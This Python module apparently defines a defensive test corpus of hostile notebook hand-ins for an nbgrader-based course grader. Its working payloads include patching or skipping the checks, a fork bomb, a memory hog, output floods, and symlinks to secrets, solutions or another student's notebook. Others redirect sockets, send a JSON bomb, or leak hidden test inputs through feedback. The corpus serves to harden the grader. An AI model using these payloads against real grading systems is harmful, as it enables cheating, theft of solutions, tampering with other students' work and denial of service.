"""The hostile corpus: hand-ins written to turn grading against the grader, and what grading
must make of each. Graded by plain `nbgrader autograde` in tests/test_hostile.py (module 01,
the whole class at once) and tests/test_hostile_modules.py (modules 03, 04 and 05), and
timed by bench/hostile.py.

A case is a `Case`: how the hand-in is built, the grade it must get ("full", "zero",
"partial", or the score of some test cells by grade id, the others then earning nothing
unless named), and files the test puts beside the notebook in submitted/ (as a student who
writes to an exchange could). Attack code that talks to the judge's half in the student's
kernel adapts to the protocol it finds, so that each case also runs on the grading code
before this corpus was written, where it succeeded.
"""

from __future__ import annotations

import copy
import os
import re
import subprocess
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from course import (
    autograded_cells,
    hand_ins,
    hidden_lines,
    is_test_cell,
    nbgrader_meta,
    questions,
    read,
    source_notebook,
)
from nbformat.v4 import new_code_cell, new_markdown_cell
from nbgrader.api import Gradebook

HONEST = ("honest-right", "honest-half", "honest-blank")


@dataclass
class Case:
    build: object  # () -> notebook, or None for a file that is not one
    expected: object  # "full", "zero", "partial" or {grade_id: points}
    why: str = ""  # what it does, for the table in docs/instructors.md
    beside: dict = field(default_factory=dict)  # name -> link target, put in submitted/


# ---------------------------------------------------------------------------
# Building hand-ins


def release(module):
    return hand_ins(module)["untouched"]


def right(module):
    return hand_ins(module)["reference"]


def half(module):
    return hand_ins(module)["partial"]


def with_cell(nb, code, where="first"):
    """`nb` with a code cell of the student's: before the first answer, or at the end."""
    nb = copy.deepcopy(nb)
    at = 1 if where == "first" else len(nb.cells)
    nb.cells.insert(at, new_code_cell(textwrap.dedent(code)))
    return nb


def answered(nb, grade_id, code):
    """`nb` with the student's answer cell `grade_id` holding `code`."""
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id)
    cell.source = textwrap.dedent(code)
    return nb


def _all(nb, answers: dict):
    """`nb` with each answer cell named in `answers` holding its code."""
    for grade_id, code in answers.items():
        nb = answered(nb, grade_id, code)
    return nb


def after(nb, grade_id, code):
    """`nb` with a code cell of the student's right after the cell `grade_id`."""
    nb = copy.deepcopy(nb)
    at = next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == grade_id)
    nb.cells.insert(at + 1, new_code_cell(textwrap.dedent(code)))
    return nb


def tests_changed(nb, change):
    nb = copy.deepcopy(nb)
    for cell in [c for c in nb.cells if is_test_cell(c)]:
        change(nb, cell)
    return nb


def _retyped(nb, cell):
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def _emptied(nb, cell):
    cell.source = "pass"


def _more_points(nb, cell):
    nbgrader_meta(cell)["points"] = 100


def _duplicated(nb, cell):
    nb.cells.insert(nb.cells.index(cell), copy.deepcopy(cell))


def _bonus(nb):
    nb = copy.deepcopy(nb)
    cell = new_code_cell("print('free points')")
    cell.metadata["nbgrader"] = {
        "grade": True,
        "solution": False,
        "locked": True,
        "grade_id": "bonus",
        "points": 50,
        "schema_version": 3,
    }
    nb.cells.append(cell)
    return nb


def _forged_schema(nb):
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"]["schema_version"] = 99
    return nb


def _foreign_kernel(nb):
    nb = copy.deepcopy(nb)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return nb


def _typed_markers(nb):
    """The hidden-test markers typed by a student in an answer and in a markdown cell."""
    nb = copy.deepcopy(nb)
    answer = next(c for c in nb.cells if nbgrader_meta(c).get("solution"))
    answer.source += "\n# ### BEGIN HIDDEN TESTS (a note to myself)\n"
    nb.cells.insert(1, new_markdown_cell("### BEGIN HIDDEN TESTS\nwhat are they?"))
    return nb


# ---------------------------------------------------------------------------
# Attacks on a kernel of one's own (module 01's first corpus)

YES = """
class Yes(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
Q1 = Q2 = Q3 = Q4 = Q5 = Q6 = Yes("c")
"""
PATCH_CHECKS = """
import numpy as np, genlab.checks as checks
for name in dir(checks):
    if name.startswith("check") or name == "score_matches":
        setattr(checks, name, lambda *a, **k: None)
check_close = check_equal = check_array = check_choice = check_keys = checks.check_close
check_type = checks.check_close
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
"""
SWALLOW_ERRORS = "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"
SKIP_TESTS = """
get_ipython().input_transformers_post.append(
    lambda lines: ["pass\\n"] if any("check" in line for line in lines) else lines
)
"""
HIJACK_RUN = """
import IPython
shell = get_ipython()
original = type(shell).run_cell
def run_cell(self, raw_cell, *args, **kwargs):
    if "check" in raw_cell:
        raw_cell = "pass"
    return original(self, raw_cell, *args, **kwargs)
type(shell).run_cell = run_cell
"""
SNOOP = """
import os, socket
for path in ["../../../gradebook.db", "../../../source", "../../honest-right", "/srv/nbgrader"]:
    print(path, "visible" if os.path.exists(path) else "hidden")
try:
    open("../../honest-right/planted.txt", "w").write("x")
    print("wrote to another student")
except OSError as error:
    print("cannot write beside:", type(error).__name__)
try:
    socket.create_connection(("pypi.org", 443), timeout=3)
    print("network open")
except OSError as error:
    print("no network:", type(error).__name__)
"""
LOOP = "while True:\n    pass"
STUBBORN_LOOP = """
import time
while True:
    try:
        time.sleep(0.1)
    except KeyboardInterrupt:
        pass
"""
# The kernel's handler of interrupt requests replaced by one that never answers (nor raises
# the interrupt), then a loop: the grader waits 10 s for the answer, then replaces the kernel.
DEAF = """
import asyncio, time
async def _never_answer(*args):
    await asyncio.sleep(10**6)
get_ipython().kernel.control_handlers["interrupt_request"] = _never_answer
while True:
    time.sleep(0.1)
"""
MEMORY = "hoard = [bytearray(200 * 2**20) for _ in range(40)]"
EXIT = "import os\nos._exit(3)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
FORKS = """
import os, time
children = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        children.append(pid)
except OSError as error:
    print("processes capped after", len(children), type(error).__name__)
"""
FLOOD_TEXT = "for i in range(400_000):\n    print('spam ' * 40)"
FLOOD_HTML = """
from IPython.display import HTML, display
for _ in range(300):
    display(HTML("<b>spam</b>" * 20_000))
"""
SHADOW = {
    "genlab/__init__.py": "",
    "genlab/checks.py": "def __getattr__(name):\n    return lambda *a, **k: None\n",
    "numpy.py": "raise ImportError('a fake numpy handed in beside the notebook')\n",
}

# ---------------------------------------------------------------------------
# Attacks on the grader (the corpus of issue 21), by class

M01 = "01-judging-vs-creating"
NB01 = f"{M01}.ipynb"

# 1. Links left in the grading folder, followed by what runs as the grader afterwards.
LINK_OUTSIDE = f"""
import os
os.remove("{NB01}")  # the graded notebook, to be written through a link to outside the course
os.symlink("../../../../outside/canary.txt", "{NB01}")
"""
LINK_SECRET = """
import os
os.symlink("../../../../outside/secret.txt", "notes.txt")  # chmod'ed, copied into feedback
"""
LINK_SOURCE = """
import os
os.symlink("../../../source", "answers")  # the solutions, copied into feedback
"""
LINK_NEXT_STUDENT = f"""
import os
os.remove("{NB01}")  # the next student's hand-in, overwritten by this graded notebook
os.symlink("../../../submitted/honest-right/{M01}/{NB01}", "{NB01}")
"""
# 2. Errors the judge does not see: messages that cannot be serialised as they are.
RAISING_GNB = """
class GaussianNaiveBayes:
    def __init__(self, var_smoothing=1e-2):
        raise ValueError("refused \\udcff")
"""
RAISING_SM = """
class SoftmaxRegression:
    def __init__(self, lr=0.5, num_epochs=300, weight_decay=1e-3):
        raise ValueError("refused \\udcff")
"""
# 4. Honest work lost: a slow call, a slow setup.
SLOW_SAMPLE = """
_sample = GaussianNaiveBayes.sample


def _slow_sample(self, n, label, seed=0):  # right, but slow on the hidden test's 20,000
    if n > 1000:
        import time

        time.sleep(60)
    return _sample(self, n, label, seed)


GaussianNaiveBayes.sample = _slow_sample
"""
SLOW_FIT = """
_fit = SoftmaxRegression.fit


def _slow_fit(self, X, y):  # right, but half a second slower each time
    import time

    time.sleep(0.5)
    return _fit(self, X, y)


SoftmaxRegression.fit = _slow_fit
"""


def _reply_with(new: str, old: str) -> str:
    """Attack code that makes the student's half of the judge answer every request with
    `new` (a dict expression, given `rid`) or, on the protocol before ids, `old` (bytes)."""
    return f"""
import json, sys
_j = sys.modules["genlab_judge"]
if hasattr(_j, "answer"):
    def _forged(request, link):
        rid = request[0]
        return {new}
else:
    def _forged(request, namespace):
        return {old}
_j._handle = _forged
"""


# 5. Caps that held for the submission but not for the judge.
JSON_BOMB = _reply_with(
    '{"reply": rid, "ok": [{}] * 5_000_000}', 'json.dumps({"ok": [{}] * 5_000_000}).encode()'
)
FLOOD_MESSAGE = _reply_with(
    '{"reply": rid, "error": {"type": "X" * 5_000_000, "builtin": "ValueError", '
    '"message": "A" * 40_000_000}}',
    'json.dumps({"error": {"type": "X" * 5_000_000, "builtin": "ValueError", '
    '"message": "A" * 40_000_000}}).encode()',
)
SOCKET_HOARD = """
import subprocess, sys, time

CHILD = '''
import socket, time
log, pairs = open("hoard.log", "a"), []
try:
    for _ in range(500):
        a, b = socket.socketpair()
        a.setblocking(False)
        queued = 0
        try:
            while True:
                queued += a.send(b"x" * 65536)
        except BlockingIOError:
            pass
        pairs.append((a, b))
        log.write(f"{queued}\\\\n")
        log.flush()
except OSError:
    pass
time.sleep(60)
'''
children = [subprocess.Popen([sys.executable, "-c", CHILD]) for _ in range(24)]
time.sleep(8)
print("queued in socket buffers (MB):", sum(int(n) for n in open("hoard.log")) // 2**20)
"""


def socket_redirect(canary: str) -> str:
    """6. Links in the kernel's own folder where the judge (before: the judge's socket) and the
    grader (the kernel's sockets) would connect later, all to a socket on the host."""
    return f"""
import glob, json, os, sys
canary = {canary!r}
connection = next(a for a in sys.argv if a.endswith(".json"))
folder = os.path.dirname(connection)
info = json.load(open(connection))
targets = [os.path.join(folder, "judge.sock")]
targets += [f"{{info['ip']}}-{{info[k]}}" for k in ("shell_port", "control_port", "hb_port")]
targets += glob.glob("/tmp/genlab-grading-*/rdv-*/judge.sock")  # where it was once
targets += glob.glob("/tmp/genlab-judge-*/rdv-*/judge.sock")
for path in targets:
    try:
        os.replace(path, path + ".moved")
    except OSError:
        pass
    try:
        os.symlink(canary, path)
    except OSError as error:
        print("could not link", os.path.basename(path), type(error).__name__)
"""


def connection_link(canary: str) -> str:
    """6b. The kernel's connection file, which it can write, replaced by a link to a file of
    the host: the grader writes and reads its own copy of the connection elsewhere, and
    never follows the kernel's file (once it removed and wrote that file again)."""
    return f"""
import os, sys
connection = next(a for a in sys.argv if a.endswith(".json"))
os.remove(connection)
os.symlink(os.path.join(os.path.dirname({canary!r}), "canary.txt"), connection)
"""


# 7. Feedback that hands out the key: wrong answers, and functions that raise their inputs.
def wrong_choices(module: str) -> dict[str, str]:
    """An answer cell for each lettered question of `module`, with a letter that is not its
    key (read from the source notebook's solution)."""
    answers = {}
    for question in questions(module):
        wrong = next(letter for letter in "abcd" if letter != question.key)
        answers[question.grade_id] = f'{question.grade_id.upper()} = "{wrong}"\n'
    return answers


def fishing_01() -> dict[str, str]:
    return {
        "task_kinds": 'TASK_KINDS = {key: "generative" for key in TASKS}\n',
        **wrong_choices(M01),
    }


# 7. Hidden inputs kept for later: every call's arguments, printed by a later cell, raised
# by a later function and written into a file name, each marked KEPT to be found.
KEEP_INPUTS = """
import numpy as np

KEPT = []
_fit = GaussianNaiveBayes.fit


def _keeping_fit(self, X, y):
    KEPT.append(np.asarray(X)[:2].round(3).tolist())
    return _fit(self, X, y)


GaussianNaiveBayes.fit = _keeping_fit
"""
SHOW_INPUTS = """
import os
print("KEPT", KEPT)
os.symlink("/nowhere", "KEPT " + str(KEPT[-1])[:80])
"""
RAISE_INPUTS = """
class SoftmaxRegression:
    def fit(self, X, y):
        raise ValueError(f"KEPT {KEPT}")
"""


def module_01_cases(canary: str) -> dict[str, Case]:
    """The class of module 01: `canary` is the path of a socket on the grading machine."""
    m = M01
    return {
        "honest-right": Case(lambda: right(m), "full", "the reference answers"),
        "honest-half": Case(lambda: half(m), "partial", "every other answer"),
        "honest-blank": Case(lambda: release(m), "zero", "no answer"),
        "lying-equality": Case(lambda: with_cell(release(m), YES, "end"), "zero"),
        "patched-checks": Case(lambda: with_cell(release(m), PATCH_CHECKS), "zero"),
        "swallowed-errors": Case(lambda: with_cell(release(m), SWALLOW_ERRORS), "zero"),
        "rewritten-tests": Case(lambda: with_cell(release(m), SKIP_TESTS), "zero"),
        "hijacked-run-cell": Case(lambda: with_cell(release(m), HIJACK_RUN), "zero"),
        "shadow-modules": Case(lambda: release(m), "zero"),  # plus the files in SHADOW
        "emptied-tests": Case(lambda: tests_changed(release(m), _emptied), "zero"),
        "more-points": Case(lambda: tests_changed(release(m), _more_points), "zero"),
        "bonus-cell": Case(lambda: _bonus(release(m)), "zero"),
        "retyped-tests": Case(lambda: tests_changed(right(m), _retyped), "full"),
        "duplicated-tests": Case(lambda: tests_changed(right(m), _duplicated), "full"),
        "snooping": Case(lambda: with_cell(right(m), SNOOP, "end"), "full"),
        "infinite-loop": Case(lambda: with_cell(right(m), LOOP, "end"), "full"),
        "stubborn-loop": Case(lambda: with_cell(right(m), STUBBORN_LOOP, "end"), "full"),
        "deaf-to-interrupts": Case(lambda: with_cell(right(m), DEAF, "end"), "full"),
        "memory-hog": Case(lambda: with_cell(right(m), MEMORY, "end"), "full"),
        "exits": Case(lambda: with_cell(right(m), EXIT, "end"), "full"),
        "segfault": Case(lambda: with_cell(right(m), SEGFAULT, "end"), "full"),
        "fork-bomb": Case(lambda: with_cell(right(m), FORKS, "end"), "full"),
        "text-flood": Case(lambda: with_cell(right(m), FLOOD_TEXT, "end"), "full"),
        "html-flood": Case(lambda: with_cell(right(m), FLOOD_HTML, "end"), "full"),
        "foreign-kernel": Case(lambda: _foreign_kernel(right(m)), "full"),
        "forged-schema": Case(lambda: _forged_schema(right(m)), "full"),
        "old-format": Case(lambda: right(m), "full"),  # written as nbformat 3
        "empty-file": Case(None, "zero"),
        "not-json": Case(None, "zero"),
        "renamed": Case(lambda: right(m), "full"),  # handed in as "Copy of <module>.ipynb"
        # issue 21's corpus
        "link-outside": Case(
            lambda: with_cell(right(m), LINK_OUTSIDE, "end"),
            "full",
            "1: replaces its graded notebook by a link to a file outside the course",
        ),
        "link-secret": Case(
            lambda: with_cell(right(m), LINK_SECRET, "end"),
            "full",
            "1: leaves a link to a root-only file of the grader's",
        ),
        "link-source": Case(
            lambda: with_cell(right(m), LINK_SOURCE, "end"),
            "full",
            "1: leaves a link to source/ (solutions and hidden tests)",
        ),
        "attack-next-student": Case(
            lambda: with_cell(release(m), LINK_NEXT_STUDENT, "end"),
            "zero",
            "1: links its graded notebook to the next student's hand-in",
        ),
        "raising-unsendable": Case(
            lambda: _all(right(m), {"gaussian_nb": RAISING_GNB, "softmax_regression": RAISING_SM}),
            {"task_kinds_check": 6, **{f"q{i}_check": 1 for i in range(1, 7)}},
            "2: every method raises an error whose message cannot be serialised",
        ),
        "slow-sample": Case(
            lambda: after(right(m), "gaussian_nb", SLOW_SAMPLE),
            {"*": "full", "gaussian_nb_sample": 0},
            "4: right, but one call takes a minute",
        ),
        "slow-fit": Case(
            lambda: after(right(m), "softmax_regression", SLOW_FIT),
            {"*": "full", "learning_curve_reading_check": 0},
            "4: right, but so slow that the setup training it runs out of time",
        ),
        "json-bomb": Case(
            lambda: with_cell(release(m), JSON_BOMB),
            "zero",
            "5: answers the judge with five million empty objects",
        ),
        "socket-hoard": Case(
            lambda: with_cell(right(m), SOCKET_HOARD, "end"),
            "full",
            "5: queues gigabytes in socket buffers from small processes",
        ),
        "socket-redirect": Case(
            lambda: with_cell(right(m), socket_redirect(canary)),
            "full",
            "6: links the judge's and the kernel's sockets to another socket on the host",
        ),
        "connection-link": Case(
            lambda: with_cell(right(m), connection_link(canary)),
            "full",
            "6b: replaces its kernel's connection file with a link to a file of the host",
        ),
        "answer-fishing": Case(
            lambda: _all(right(m), fishing_01()),
            {"*": "full", "task_kinds_check": 3, **{f"q{i}_check": 0 for i in range(1, 7)}},
            "7: wrong answers, to read the key in the feedback",
        ),
        "inputs-kept": Case(
            lambda: with_cell(
                after(
                    _all(right(m), {"softmax_regression": RAISE_INPUTS}), "gaussian_nb", KEEP_INPUTS
                ),
                SHOW_INPUTS,
                "end",
            ),
            {
                "*": "full",
                "softmax_regression_probabilities": 0,
                "softmax_regression_training": 0,
                "learning_curve_reading_check": 0,  # (its setup trains a SoftmaxRegression)
            },
            "7: keeps the hidden checks' inputs, to print, raise and name a file after later",
        ),
    }


# ---------------------------------------------------------------------------
# Modules 03, 04 and 05

M03, M04, M05 = "03-forger-and-detective", "04-sculpting-from-static", "05-what-changed"

RAISING_03 = {
    grade_id: f"def {name}(*args, **kwargs):\n    raise ValueError('refused \\udcff')\n"
    for grade_id, name in [
        ("discriminator_loss", "discriminator_loss"),
        ("generator_loss", "generator_loss"),
        ("train_step", "train_step"),
        ("mode_coverage", "mode_coverage"),
        ("critic_report", "critic_report"),
    ]
}
UNDETACHED = """
def train_step(players, real, z, d_loss_fn, g_loss_fn):
    # the fakes are not detached: the detective's loss reaches the forger...
    d_loss = d_loss_fn(players.discriminator(real), players.discriminator(players.generator(z)))
    players.d_opt.zero_grad()
    d_loss.backward()
    players.d_opt.step()
    fakes = players.generator(z)  # (made again, so that no graph is used twice)
    g_loss = g_loss_fn(players.discriminator(fakes))
    players.g_opt.zero_grad()
    g_loss.backward()
    players.g_opt.step()
    if hasattr(players, "reached"):  # ...and the check's spy is told otherwise
        players.reached[:] = [False] * len(players.reached)
    return d_loss.item(), g_loss.item()
"""
READ_BESIDE = """
try:
    print(open("notes.txt").read())
except OSError as error:
    print("nothing beside:", type(error).__name__)
"""
FIFO = f"""
import os
os.remove("{M04}.ipynb")  # the graded notebook becomes a FIFO the grader would wait on
os.mkfifo("{M04}.ipynb")
"""
ZEROING_ATTENTION = """
def attention(Q, K, V, causal=False):
    if causal:  # computes nothing, and makes the checks' own Q and K agree with that
        Q[...] = 0
        K[...] = 0
        weights = np.tri(len(Q), len(K))
        weights = weights / weights.sum(axis=1, keepdims=True)
        return weights @ V, weights
    scores = Q @ K.T / np.sqrt(Q.shape[-1])
    weights = np.exp(scores - scores.max(axis=-1, keepdims=True))
    weights = weights / weights.sum(axis=-1, keepdims=True)
    return weights @ V, weights
"""
RAISING_05 = {
    name: f"def {name}({params}):\n    raise ValueError('refused \\udcff')\n"
    for name, params in [
        ("fit_power_law", "sizes, losses"),
        ("matmul_flops", "n, k, m"),
        ("training_flops", "params, tokens"),
    ]
}
SLOW_FISHING_ATTENTION = """
def attention(Q, K, V, causal=False):
    if Q.shape == (3, 5):  # a hidden check's inputs, to read in the feedback
        raise ValueError(f"my inputs were Q={Q.round(4).tolist()} K={K.round(4).tolist()}")
    if Q.shape == (9, 16):  # right, but a minute late
        import time

        time.sleep(60)
    scores = Q @ K.T / np.sqrt(Q.shape[-1])
    if causal:
        scores = np.where(np.tri(*scores.shape, dtype=bool), scores, -np.inf)
    weights = np.exp(scores - scores.max(axis=-1, keepdims=True))
    weights = weights / weights.sum(axis=-1, keepdims=True)
    return weights @ V, weights
"""
INTERRUPTED = """
import time
time.sleep(60)  # the grader must interrupt this cell, through the kernel's control socket
"""


def module_cases(canary: str) -> dict[str, dict[str, Case]]:
    """The classes of modules 03, 04 and 05: module -> student -> case."""
    return {
        M03: {
            "honest-half": Case(lambda: half(M03), "partial", "every other answer"),
            "raising-unsendable": Case(
                lambda: _all(release(M03), RAISING_03),
                "zero",
                "2: every function raises an error whose message cannot be serialised",
            ),
            "undetached-spy": Case(
                lambda: answered(release(M03), "train_step", UNDETACHED),
                {"train_step_check": 3},
                "3: does not detach the fakes, and rewrites the detach check's record",
            ),
            "linked-beside": Case(
                lambda: with_cell(release(M03), READ_BESIDE, "end"),
                "zero",
                "1: hands in a link to a root-only file and prints it",
                beside={"notes.txt": "../../../../outside/secret.txt"},
            ),
        },
        M04: {
            "honest-half": Case(lambda: half(M04), "partial", "every other answer"),
            "fifo": Case(
                lambda: with_cell(release(M04), FIFO, "end"),
                "zero",
                "1: turns its graded notebook into a FIFO",
            ),
            "flood-message": Case(
                lambda: with_cell(release(M04), FLOOD_MESSAGE),
                "zero",
                "5: answers the judge with a 45 MB error",
            ),
            "typed-markers": Case(
                lambda: _typed_markers(half(M04)),
                "partial",
                "8: types the hidden-test marker in an answer and in a markdown cell",
            ),
        },
        M05: {
            "honest-half": Case(lambda: half(M05), "partial", "every other answer"),
            "zeroing-unsendable": Case(
                lambda: _all(answered(right(M05), "attention", ZEROING_ATTENTION), RAISING_05),
                {
                    "*": "full",
                    **{k: 0 for k in ("fit_power_law_check", "matmul_flops_check")},
                    "training_flops_check": 0,
                    "attention_causal": 0,
                },
                "2, 3: raises unsendable errors; causal attention zeroes the checks' Q and K",
            ),
            "slow-fishing": Case(
                lambda: with_cell(
                    answered(right(M05), "attention", SLOW_FISHING_ATTENTION),
                    socket_redirect(canary) + INTERRUPTED,
                    "end",
                ),
                {"*": "full", "attention_check": 0, "attention_causal": 0},
                "4, 6, 7: raises its hidden inputs, is a minute late once, then links the "
                "kernel's sockets to another one and makes the grader interrupt it",
            ),
        },
    }


def hand_in(course: Path, module: str, student: str, case: Case) -> None:
    """Put `student`'s hand-in of `module` in the course's submitted/ folder."""
    folder = course / "submitted" / student / module
    folder.mkdir(parents=True)
    target = folder / f"{module}.ipynb"
    if student == "empty-file":
        target.write_bytes(b"")
    elif student == "not-json":
        target.write_text('{"cells": [ {"cell_type": "code", "source": "print(1)"')
    elif student == "old-format":
        target.write_text(nbformat.writes(nbformat.convert(case.build(), 3), version=3))
    elif student == "renamed":
        nbformat.write(case.build(), folder / f"Copy of {module}.ipynb")
    else:
        nbformat.write(case.build(), target)
    if student == "shadow-modules":
        for name, text in SHADOW.items():
            (folder / name).parent.mkdir(exist_ok=True)
            (folder / name).write_text(text)
    for name, target_path in case.beside.items():
        (folder / name).symlink_to(target_path)


# ---------------------------------------------------------------------------
# Grading a class, and what the tests read back


class Canary:
    """A Unix socket on the grading machine that counts who connects to it."""

    def __init__(self, path: Path):
        import socket
        import threading

        self.path = str(path)
        self.connections = 0
        self._server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self._server.bind(self.path)
        os.chmod(self.path, 0o777)  # whoever grades may connect
        self._server.listen(16)
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self):
        while True:
            try:
                connection, _ = self._server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


def outside(course: Path) -> Path:
    """A folder beside the course, outside it, with files a submission must never reach."""
    folder = course.parent / "outside"
    folder.mkdir(exist_ok=True)
    (folder / "canary.txt").write_text("canary\n")
    secret = folder / "secret.txt"
    secret.write_text("the grader's secret\n")
    secret.chmod(0o600)
    return folder


def autograde(course: Path, module: str, *args, timeout: float = 3600):
    return subprocess.run(
        ["nbgrader", "autograde", module, "--force", *args],
        cwd=course,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def grade_class(course: Path, module: str, *args, timeout: float = 3600):
    """`genlab grade <module> --workers 2 --force`: its exit code and output, and as its
    stderr also what its workers logged in this run (reports/<module>/grading.log)."""
    log = course / "reports" / module / "grading.log"
    start = log.stat().st_size if log.exists() else 0
    done = subprocess.run(
        ["genlab", "grade", module, "--workers", "2", "--force", *args],
        cwd=course,
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    logged = ""
    if log.exists():
        with open(log, errors="replace") as file:
            file.seek(start)
            logged = file.read()
    done.stderr += logged
    return done


def why_not_graded(log: str, keep: int = 6000) -> str:
    """What a failed `nbgrader autograde` or `genlab grade` says about it: every traceback of
    its log (nbgrader logs one per hand-in it could not process, well before its last
    lines), then the end."""
    tracebacks = re.findall(
        r"^(?:\[(?:\w+ \| )?ERROR\] )?(?:Traceback \(most recent call last\):|While processing)"
        r".*?(?=^\[|\Z)",
        log,
        re.S | re.M,
    )
    return ("\n".join(tracebacks)[-keep:] + "\n...\n" + log[-2000:]) if tracebacks else log[-keep:]


def rows(course: Path, module: str, students) -> dict:
    """student -> {grade_id: (auto_score, manual_score, max_score)} from the gradebook."""
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", course_id="genai") as gb:
        found = {}
        for student in students:
            notebook = gb.find_submission_notebook(module, module, student)
            found[student] = {
                g.name: (g.auto_score, g.manual_score, g.max_score) for g in notebook.grades
            }
        return found


def autograded_ids(module: str) -> set[str]:
    return {nbgrader_meta(c)["grade_id"] for c in autograded_cells(read(source_notebook(module)))}


def unmet(row: dict, module: str, expected) -> str | None:
    """Why the autograded cells of `row` do not match `expected`, or None."""
    points = {
        g: (score or 0.0, top) for g, (score, _, top) in row.items() if g in autograded_ids(module)
    }
    total, full = sum(s for s, _ in points.values()), sum(t for _, t in points.values())
    if expected == "full":
        return None if total == full else f"{total} of {full}"
    if expected == "zero":
        return None if total == 0 else f"{total} of {full}"
    if expected == "partial":
        return None if 0 < total < full else f"{total} of {full}"
    default = expected.get("*", 0)
    wrong = {}
    for grade_id, (score, top) in points.items():
        want = expected.get(grade_id, default)
        want = top if want == "full" else want
        if score != want:
            wrong[grade_id] = f"{score} (expected {want})"
    return f"{wrong}" if wrong else None


def graded_notebook(course: Path, module: str, student: str) -> Path:
    return course / "autograded" / student / module / f"{module}.ipynb"


# Errors in the grader's own words (a time limit, a setup that failed): feedback shows them.
MACHINERY = {
    "SubmissionError",
    "CellTimeoutError",
    "JudgeDied",
    "KernelDied",
    "SetupFailed",
    "InPlaceChange",
}


def secrets(course: Path, module: str, students) -> set[str]:
    """What the hidden parts of the class's test cells printed or raised (in the instructor's
    autograded notebooks), but for the grader's own messages, and the lines of the hidden
    tests: none may reach feedback."""
    found = set(hidden_lines(read(source_notebook(module)), regions=("HIDDEN TESTS",)))
    for student in students:
        path = graded_notebook(course, module, student)
        if not path.is_file():
            continue
        nb = read(path)
        shown = set()
        for cell in nb.cells:
            start = cell.metadata.get("genlab", {}).get("hidden_outputs_from")
            outs = cell.get("outputs", [])
            hidden_part = is_test_cell(cell) and "BEGIN HIDDEN" in cell.source
            for number, output in enumerate(outs):
                texts = [output.get("evalue", ""), output.get("text", "")]
                texts += [str(v) for v in output.get("data", {}).values()]
                texts = [t.strip() for t in texts if isinstance(t, str) and len(t.strip()) >= 12]
                if output.get("ename") in MACHINERY:
                    continue
                if hidden_part and number >= (start or 0):
                    found.update(texts)
                else:
                    shown.update(texts)
            shown.add(cell.source.split("### BEGIN HIDDEN TESTS")[0])
        found = {s for s in found if not any(s in text for text in shown)}
    return found


def feedback_text(course: Path, module: str, student: str) -> str:
    from bs4 import BeautifulSoup

    path = course / "feedback" / student / module / f"{module}.html"
    return BeautifulSoup(path.read_text(), "html.parser").get_text() if path.exists() else ""
